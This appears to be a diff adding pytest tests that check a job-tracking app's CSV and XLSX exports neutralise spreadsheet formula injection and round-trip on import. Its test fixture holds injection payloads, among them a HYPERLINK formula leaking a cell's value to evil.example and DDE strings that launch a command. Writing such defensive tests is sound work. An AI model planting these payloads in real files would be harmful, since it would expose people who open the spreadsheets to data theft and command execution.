@@ -167,3 +167,66 @@ def test_a_customers_file_creates_and_updates_customers_by_name():
         customer_rows_apply(rows=customer_rows_parse("c.csv", content), skip_bad=True)["unchanged"]
         == 2
     )
+
+
+DANGEROUS = {
+    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open the job")',
+    "site_notes": "+cmd|' /C calc'!A0",
+    "site_contact": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "site_address": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def dangerous_job() -> Job:
+    from decimal import Decimal
+
+    return JobFactory(
+        **DANGEROUS,
+        customer__name="=1+1",
+        amount=Decimal("-12.50"),
+        scheduled_start=timezone.now().replace(second=0, microsecond=0),
+    )
+
+
+def exported_cells(name: str, content: bytes) -> list[dict]:
+    """Read an export back as a spreadsheet program would: every cell of every row."""
+    if name.endswith(".csv"):
+        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+        return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    sheet = load_workbook(io.BytesIO(content)).active  # formulas kept as formulas
+    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value)
+    header = [c.value for c in sheet[1]]
+    return [
+        dict(zip(header, [c.value or "" for c in row], strict=True))
+        for row in sheet.iter_rows(min_row=2)
+    ]
+
+
+@pytest.mark.parametrize(("name", "export"), [("jobs.csv", jobs_csv), ("jobs.xlsx", jobs_xlsx)])
+def test_exports_quote_text_a_spreadsheet_would_run_as_a_formula(name, export):
+    dangerous_job()
+    JobFactory(title="\tTabbed", site_notes="\rReturned", site_contact="Plain text")
+    first, second = exported_cells(name, export(Job.objects.order_by("number")))
+    for column, text in DANGEROUS.items():
+        assert first[column] == "'" + text
+    assert (first["customer"], first["amount"]) == ("'=1+1", "-12.50")  # a number stays one
+    # XML reads a stored carriage return back as a line feed.
+    assert (second["title"], second["site_notes"].replace("\n", "\r")) == (
+        "'\tTabbed",
+        "'\rReturned",
+    )
+    assert second["site_contact"] == "Plain text"
+    starts = ("=", "+", "@", "\t", "\r")
+    assert not [v for row in (first, second) for v in row.values() if v.startswith(starts)]
+
+
+@pytest.mark.parametrize(("name", "export"), [("jobs.csv", jobs_csv), ("jobs.xlsx", jobs_xlsx)])
+def test_an_export_with_quoted_cells_imports_back_to_the_same_text(name, export):
+    job = dangerous_job()
+    exported = export(Job.objects.all())
+    assert rows_apply(rows=rows_parse(name, exported), skip_bad=False)["unchanged"] == 1
+    Job.objects.filter(pk=job.pk).update(title="Changed", site_notes="", site_contact="")
+    assert rows_apply(rows=rows_parse(name, exported), skip_bad=False)["updated"] == 1
+    job.refresh_from_db()
+    assert {column: getattr(job, column) for column in DANGEROUS} == DANGEROUS
+    assert (job.customer.name, Customer.objects.count()) == ("=1+1", 1)
